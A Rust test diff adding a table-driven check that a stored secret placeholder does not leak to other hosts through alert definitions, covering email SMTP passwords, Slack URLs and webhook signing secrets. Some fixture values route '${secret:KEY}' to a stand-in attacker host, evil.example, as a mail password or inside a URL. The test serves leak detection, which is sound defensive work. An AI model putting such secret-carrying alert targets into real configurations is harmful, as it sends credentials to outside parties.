@@ -78,3 +78,26 @@ fn a_key_stays_with_its_host() {
     }
     assert_eq!(reached(&stored, &[change("a", None)]), []);
 }
+
+/// An alert tells a password to a mail server, and what stands in an address to its host; what signs goes nowhere.
+#[test]
+fn a_key_does_not_leave_by_an_alert() {
+    let stored = stored(&[("a", client("https://a.example", "${secret:KEY}"))]);
+    let mail = |smtp: &str| json!({ "type": "email", "smtp": smtp, "password": "${secret:KEY}" });
+    let table = [
+        (mail("smtps://evil.example"), true),
+        (mail("smtps://a.example"), true),
+        (json!({ "type": "email", "smtp": "smtps://evil.example", "password": "mine" }), false),
+        (json!({ "type": "slack", "url": "https://evil.example/${secret:KEY}" }), true),
+        (json!({ "type": "slack", "url": "https://evil.example/x" }), false),
+        (json!({ "type": "slack", "url": "${secret:CHANNEL}" }), false),
+        (json!({ "type": "webhook", "url": "https://evil.example", "signing_secret": "${secret:KEY}" }), false),
+    ];
+    for (target, leaves) in table {
+        let body = json!({ "send": [{ "type": "webhook", "url": "https://x" }, target] });
+        let change = DefinitionChange { kind: "alerts".into(), name: "x".into(), body: Some(body.to_string()) };
+        let found = reached(&stored, &[change]);
+        assert_eq!(!found.is_empty(), leaves, "{body}: {found:?}");
+        assert!(found.iter().all(|reach| reach.place.starts_with("alerts.x.send[1].")), "{found:?}");
+    }
+}
